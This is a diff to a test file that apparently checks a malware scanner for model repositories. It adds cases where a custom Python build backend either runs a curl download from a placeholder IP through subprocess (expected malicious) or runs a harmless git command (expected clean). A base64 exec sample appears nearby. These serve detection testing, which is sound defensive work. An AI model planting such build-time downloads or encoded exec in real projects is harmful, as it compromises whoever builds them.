@@ -25,6 +25,11 @@ MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model
 EXEC = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 
+BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "own:hooks"\nbackend-path = ["build"]\n'
+RUNS = b"import subprocess\nsubprocess.run('curl http://192.0.2.1/x -o y', shell=True)\n"
+QUIET = b"from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['git', 'describe'])\n"
+
+
 def zipped(files: Files, verdict: Verdict) -> Case:
     """Return the case of a repository below a folder of a zip."""
     return Case(lambda: made(*((f"acme/{name}", data) for name, data in files.items())), "model.zip", verdict)
@@ -42,6 +47,8 @@ CASES = {
     "pipeline_runs_command": zipped(MALICIOUS["known_component_of_its_own"][0], Verdict.MALICIOUS),
     "model_decodes_code": zipped(changed(TRANSFORMERS, modeling_acme=MODELING + EXEC), Verdict.MALICIOUS),
     "target_runs_command": zipped(MALICIOUS["target"][0], Verdict.REVIEW),
+    "build_backend_runs_command": zipped({"pyproject.toml": BACKEND, "build/own.py": RUNS}, Verdict.MALICIOUS),
+    "benign_build_backend": zipped({"pyproject.toml": BACKEND, "build/own.py": QUIET}, Verdict.CLEAN),
     "benign_shards": zipped(SHARDED, Verdict.CLEAN),
     "shards_of_another_index": zipped({**SHARDED, "model.safetensors.index.json": OTHER_INDEX}, Verdict.CLEAN),
     "index_alone": Case(lambda: SHARDED["model.safetensors.index.json"], "model.safetensors.index.json", Verdict.CLEAN),
